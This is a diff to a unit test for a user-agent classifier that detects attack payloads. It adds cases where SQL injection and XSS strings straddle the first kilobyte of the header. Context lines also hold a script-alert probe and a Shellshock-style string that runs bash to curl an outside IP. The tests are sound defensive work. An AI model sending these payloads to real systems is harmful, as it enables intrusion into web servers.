@@ -125,6 +125,25 @@ describe('client classification', () => {
     expect(client(`${chrome}${pad}x`)).toMatchObject({ kind: 'human', browser: 'Chrome 142' });
   });
 
+  it('finds a payload that straddles the first kilobyte of a user agent', () => {
+    // Neither the first 1,024 characters nor the rest from 16 before that mark held all of it.
+    const chrome =
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
+    for (const [payload, id] of [
+      ['information_schema', 'sql-injection'],
+      ["' or 'aaaaaaaaaaaaaaaaaaaaaaaaa'='a", 'sql-injection'],
+      ['" onmouseover="x" onerror=1', 'xss'],
+    ] as const) {
+      for (const at of [1000, 1007, 1010]) {
+        const ua = `${chrome} ${'x'.repeat(at - chrome.length - 1)}${payload} ${'y'.repeat(100)}`;
+        expect(classify({ method: 'GET', path: '/', userAgent: ua })).toEqual({
+          client: { kind: 'scanner', reason: 'attack payload in the user agent' },
+          signals: [id],
+        });
+      }
+    }
+  });
+
   it('does not take a payload for a product name', () => {
     expect(client('<script>alert(1)</script>').name).toBeUndefined();
     expect(client('() { :; }; /bin/bash -c "curl http://198.51.100.9/x"').name).toBeUndefined();
